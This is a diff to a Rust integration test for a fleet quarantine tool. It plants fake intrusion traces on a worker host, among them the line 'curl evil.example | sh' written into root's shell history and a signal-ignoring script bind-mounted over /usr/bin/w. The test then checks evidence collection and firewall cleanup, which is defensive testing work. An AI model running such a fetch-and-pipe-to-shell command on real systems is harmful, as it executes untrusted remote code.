@@ -11,8 +11,8 @@ const ISOLATED: &str = "worker-2";
 
 /// A tool that heeds no signal, in the place of one that is asked for.
 const HANGS: &str =
-    "printf '#!/bin/sh\\ntrap \"\" TERM HUP\\nn=0; while [ $n -lt 60 ]; do n=$((n + 1)); sleep 1; done\\n' >/root/hangs
-chmod 755 /root/hangs && mount --bind /root/hangs /usr/bin/w";
+    "printf '#!/bin/sh\\ntrap \"\" TERM HUP\\nn=0; while [ $n -lt 60 ]; do n=$((n + 1)); sleep 1; done\\n' >/usr/local/bin/hangs
+chmod 755 /usr/local/bin/hangs && mount --bind /usr/local/bin/hangs /usr/bin/w";
 
 fn lockturn(fleet: &Fleet, words: &[&str]) -> Ended {
     fleet.lockturn(words).output().unwrap().into()
@@ -24,7 +24,7 @@ pub(super) fn a_worker_shows_what_it_has_first(fleet: &Fleet) {
     let before: Vec<String> = fleet.hosts().iter().map(|host| host.sh("nft list ruleset")).collect();
     host.sh("[ -e /usr/bin/w ] || : >/usr/bin/w");
     host.sh(HANGS);
-    host.sh("logger -t somebody 'it was me'; echo 'curl evil.example | sh' >/root/.bash_history");
+    host.sh("logger -t somebody 'it was me'; echo 'curl evil.example | sh' >~root/.bash_history");
     let directory = fleet.home.join("evidence");
     let words = ["quarantine", ISOLATED, "--evidence", directory.to_str().unwrap(), "--expires", "24h"];
 
@@ -69,7 +69,7 @@ pub(super) fn a_worker_shows_what_it_has_first(fleet: &Fleet) {
         assert!(wanted.contains(&state), "{item}");
     }
 
-    host.sh("umount /usr/bin/w; rm -f /root/hangs /root/.bash_history; [ -s /usr/bin/w ] || rm /usr/bin/w");
+    host.sh("umount /usr/bin/w; rm -f /usr/local/bin/hangs ~root/.bash_history; [ -s /usr/bin/w ] || rm /usr/bin/w");
     lockturn(fleet, &["--yes", "release", ISOLATED]).with(0, &["RELEASED  worker-2"]);
     for (host, before) in fleet.hosts().iter().zip(&before) {
         assert_eq!(&host.sh("nft list ruleset"), before, "{} has rules left", host.name);
